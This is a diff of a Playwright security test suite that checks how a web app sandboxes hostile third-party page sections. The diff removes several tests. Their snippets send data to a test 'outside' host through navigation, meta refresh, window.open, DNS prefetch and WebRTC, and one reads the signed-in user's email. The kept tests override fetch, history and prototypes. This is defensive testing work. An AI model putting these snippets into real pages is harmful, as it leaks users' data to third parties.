@@ -1,13 +1,9 @@
-import { readFileSync } from 'node:fs';
 import type { Page, Response } from '@playwright/test';
-import { findBrowserWithInterface } from '@elbi/tools/browser';
 import { type Attempts, shipHostileSection } from '../fixtures/hostile-section.ts';
 import { type Outside, startOutside } from '../fixtures/outside.ts';
-import { signIn, DEMO } from '../fixtures/people.ts';
-import { shipSection } from '../fixtures/shipped-section.ts';
 import { expect, test as base } from '../fixtures/test.ts';
 
-/** What docs/threat-model.md says of a hostile section, each tried by one. */
+/** What the page's policy and the shell keep a hostile section from, each tried by one. */
 const test = base.extend<{
   outside: Outside;
   /** Opens the page of a section that has these attempts. */
@@ -29,11 +25,6 @@ const test = base.extend<{
     });
   },
 });
-
-// As people have it: it connects ahead to hosts, which one for tests alone does not.
-const peoplesBrowser = await findBrowserWithInterface();
-const NOT_AHEAD = 'No browser with a user interface is here.';
-if (peoplesBrowser) test.use({ launchOptions: { executablePath: peoplesBrowser } });
 
 const element = (tag: string, attributes: string) =>
   `const element = Object.assign(document.createElement('${tag}'), ${attributes});` +
@@ -162,7 +153,7 @@ async function outcomes(
   attempts: readonly (readonly [string, ...string[]])[],
   outside: Outside,
 ) {
-  const where = { outside: outside.origin, stun: outside.stun };
+  const where = { outside: outside.origin };
   const found: Record<string, string> = {};
   for (const [what] of attempts) {
     found[what] = await page.evaluate(([name, at]) => refusalOf(name, at), [what, where] as const);
@@ -269,27 +260,6 @@ async function leaveForTerms(page: Page): Promise<void> {
   await expect(page.getByRole('heading', { level: 1, name: /terms/i })).toBeVisible();
 }
 
-/** Has documents keep what they tell the operator: nobody outside of a page sees what a beacon carries. */
-async function keepReports(page: Page): Promise<void> {
-  await page.addInitScript(() => {
-    const told: unknown[] = [];
-    const send = navigator.sendBeacon.bind(navigator);
-    navigator.sendBeacon = (url, body) => {
-      if (body instanceof Blob) void body.text().then((text) => told.push(JSON.parse(text)));
-      return send(url, body);
-    };
-    Object.assign(globalThis, { told });
-  });
-}
-
-/** Waits until a page has told the operator so of a section. */
-async function expectReport(page: Page, report: { section: string; message: string }) {
-  const told = () => page.evaluate(() => (globalThis as unknown as { told: object[] }).told);
-  await expect
-    .poll(told, { timeout: 20_000 })
-    .toContainEqual(expect.objectContaining({ ...report, outcome: 'failed', phase: 'render' }));
-}
-
 const colorOf = (page: Page, selector: string) =>
   page
     .locator(selector)
@@ -316,25 +286,15 @@ test.describe('what a section does to others', () => {
     expect(await colorOf(page, 'main p')).not.toBe('rgb(1, 2, 3)');
   });
 
-  test('is no function of theirs, and the language is put back and told', async ({
-    page,
-    openHostile,
-  }) => {
-    await keepReports(page);
+  test('is no function of theirs', async ({ page, openHostile }) => {
     await openHostile('hostile-functions', {
       fetch: `globalThis.fetch = () => Promise.reject(new Error('mine'))`,
       history: `history.pushState = () => {}`,
       prototype: `Element.prototype.append = () => {}`,
-      language: `Array.prototype.at = () => 'mine'; return [1].at(0)`,
     });
     for (const name of ['fetch', 'history', 'prototype']) {
       expect(await page.evaluate((what) => attempt(what, {}), name), name).toBe('TypeError');
     }
-    expect(await page.evaluate(() => attempt('language', {}))).toBe('mine');
-    await leaveForTerms(page);
-    const message = 'It replaced Array.prototype.at.';
-    await expectReport(page, { section: 'hostile-functions', message });
-    expect(await page.evaluate(() => [1].at(0))).toBe(1);
   });
 
   test('rests while it is away', async ({ page, openHostile }) => {
@@ -378,145 +338,5 @@ test.describe('what a section does to others', () => {
     await page.evaluate(() => attempt('cover', {}));
     await page.getByRole('banner').getByRole('link', { name: /home/ }).click();
     await expect(page.getByRole('heading', { level: 1 })).toHaveText('Discover Accommodations');
-  });
-
-  for (const [name, code, message] of [
-    [
-      'render',
-      `let React;
-       prepare = async () => { React = await sharedModule('react'); };
-       hook = () => {
-         const [, set] = React.useState();
-         React.useEffect(() => {
-           const { port1, port2 } = new MessageChannel();
-           port1.onmessage = () => set({});
-           port2.postMessage(0);
-         });
-       };`,
-      'It renders without end.',
-    ],
-    [
-      'navigate',
-      `prepare = async () => {
-         const step = () => { history.replaceState(null, '', location.href); };
-         setInterval(step, 5);
-       };`,
-      'It changes the address without end.',
-    ],
-  ] as const) {
-    test(`ends when it would ${name} without end`, async ({ page, request, guard }) => {
-      guard.expectConsole(/./);
-      const section = await shipSection(request, `endless-${name}`, { code });
-      await keepReports(page);
-      await page.goto(section.path);
-      await expectReport(page, { section: section.name, message });
-      await expect(page.getByText(`The ${section.name} section could not be loaded`)).toBeVisible();
-      await leaveForTerms(page);
-    });
-  }
-});
-
-test.describe('a hostile section still can', () => {
-  test('act as the person who looks, and read what they may', async ({ page, openHostile }) => {
-    await signIn(page, DEMO.student);
-    await openHostile('hostile-reader', {
-      account: `return (await (await fetch('/api/auth/login/success')).json()).user.email`,
-      page: `return document.querySelector('header').textContent`,
-      address: `history.pushState(null, '', '/terms'); return location.pathname`,
-    });
-    expect(await page.evaluate(() => attempt('account', {}))).toBe(DEMO.student);
-    expect(await page.evaluate(() => attempt('page', {}))).toContain('Elbi');
-    expect(await page.evaluate(() => attempt('address', {}))).toBe('/terms');
-  });
-
-  for (const [how, code] of [
-    ['by a navigation', `location.href = outside + '/secret'`],
-    [
-      'by a refresh',
-      `document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=' + outside + '/secret' }))`,
-    ],
-  ] as const) {
-    test(`leave with data ${how}, which everybody sees`, async ({ page, outside, openHostile }) => {
-      await openHostile(`hostile-${how.split(' ').at(-1)}`, { leave: code });
-      const left = page.waitForURL(`${outside.origin}/secret`);
-      await page.evaluate((at) => void attempt('leave', { outside: at }), outside.origin);
-      await left;
-      expect(outside.requests).toEqual(['/secret']);
-    });
-  }
-
-  test('open a window with data, once somebody clicks', async ({ page, outside, openHostile }) => {
-    await openHostile('hostile-window', {
-      click:
-        element(
-          'button',
-          `{ textContent: 'Win a prize', onclick: () => open(outside + '/clicked') }`,
-        ) + `return 'ready'`,
-    });
-    const at = outside.origin;
-    await page.evaluate((to) => attempt('click', { outside: to }), at);
-    const popup = page.waitForEvent('popup');
-    await page.getByRole('button', { name: 'Win a prize' }).click();
-    await (await popup).waitForURL(`${at}/clicked`);
-    expect(outside.requests).toEqual(['/clicked']);
-  });
-
-  test('say a word in the name of a host, by a connection without a request', async ({
-    page,
-    outside,
-    openHostile,
-  }) => {
-    test.skip(!peoplesBrowser, NOT_AHEAD);
-    await openHostile('hostile-frame', { frame: element('iframe', `{ src: outside + '/x' }`) });
-    await page.evaluate((at) => void attempt('frame', { outside: at }), outside.origin);
-    await expect.poll(outside.connections).toBeGreaterThan(0);
-    expect(outside.requests).toEqual([]);
-  });
-
-  test('say a word in the name of a host, by looking it up', async ({
-    playwright,
-    launchOptions,
-    baseURL,
-    request,
-  }, testInfo) => {
-    test.skip(!peoplesBrowser, NOT_AHEAD);
-    const { path } = await shipHostileSection(request, 'hostile-look-up', {
-      'look up':
-        element('link', `{ rel: 'dns-prefetch', href: '//secret.test' }`) + `return 'done'`,
-    });
-    const log = testInfo.outputPath('net-log.json');
-    // A profile on disk, as people have: private windows connect to nothing ahead.
-    const context = await playwright.chromium.launchPersistentContext('', {
-      ...launchOptions,
-      ignoreDefaultArgs: ['--disable-background-networking'],
-      args: [`--log-net-log=${log}`],
-      baseURL,
-    });
-    const page = await context.newPage();
-    await page.goto(path);
-    await page.waitForFunction(() => 'attempt' in globalThis);
-    await page.evaluate(() => attempt('look up', {}));
-    // Written while the browser runs.
-    await expect.poll(() => readFileSync(log, 'utf8')).toContain('secret.test');
-    await context.close();
-  });
-
-  test('reach a peer by what an empty frame has, not by what the page has', async ({
-    page,
-    outside,
-    openHostile,
-  }) => {
-    const call = (connection: string) =>
-      `const peer = new ${connection}({ iceServers: [{ urls: stun }] });` +
-      `peer.createDataChannel('x'); await peer.setLocalDescription(); return 'called'`;
-    await openHostile('hostile-peer', {
-      page: call('RTCPeerConnection'),
-      frame: element('iframe', '{}') + call('element.contentWindow.RTCPeerConnection'),
-    });
-    const attemptOf = (name: string) =>
-      page.evaluate(([what, stun]) => attempt(what, { stun }), [name, outside.stun] as const);
-    expect(await attemptOf('page')).toBe('ReferenceError');
-    expect(await attemptOf('frame')).toBe('called');
-    await expect.poll(outside.packets).toBeGreaterThan(0);
   });
 });
